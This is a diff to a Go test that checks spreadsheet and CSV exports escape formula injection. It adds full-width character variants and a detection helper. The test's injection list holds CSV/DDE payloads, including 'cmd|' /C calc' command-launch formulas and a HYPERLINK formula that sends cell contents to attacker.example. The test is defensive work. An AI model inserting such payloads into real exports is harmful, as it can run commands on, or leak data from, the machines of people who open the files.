@@ -5,6 +5,7 @@ import (
 	"encoding/csv"
 	"strings"
 	"testing"
+	"unicode/utf8"
 
 	"github.com/xuri/excelize/v2"
 
@@ -20,6 +21,17 @@ var injections = []string{
 	"+1+cmd|' /C calc'!A0",
 	"-2+3+cmd|' /C calc'!A0",
 	"\t=1+1",
+	"＝HYPERLINK(\"http://attacker.example/?\"&A1,\"Click\")",
+	"＠SUM(1+1)*cmd|' /C calc'!A0",
+	"＋1+cmd|' /C calc'!A0",
+	"－2+3+cmd|' /C calc'!A0",
+}
+
+// formulaStart reports whether c starts with a character a spreadsheet
+// would take as the start of a formula, ASCII or full-width.
+func formulaStart(c string) bool {
+	r, _ := utf8.DecodeRuneInString(c)
+	return c != "" && strings.ContainsRune("=@+-\t＝＠＋－", r)
 }
 
 // TestExportsEscapeFormulas writes every kind of text an officer or an
@@ -73,7 +85,7 @@ func TestExportsEscapeFormulas(t *testing.T) {
 				if c == "'"+inj {
 					found = true
 				}
-				if c != "" && strings.ContainsRune("=@+-\t", rune(c[0])) {
+				if formulaStart(c) {
 					t.Errorf("injection %d: %s cell %q starts like a formula", i, where, c)
 				}
 			}
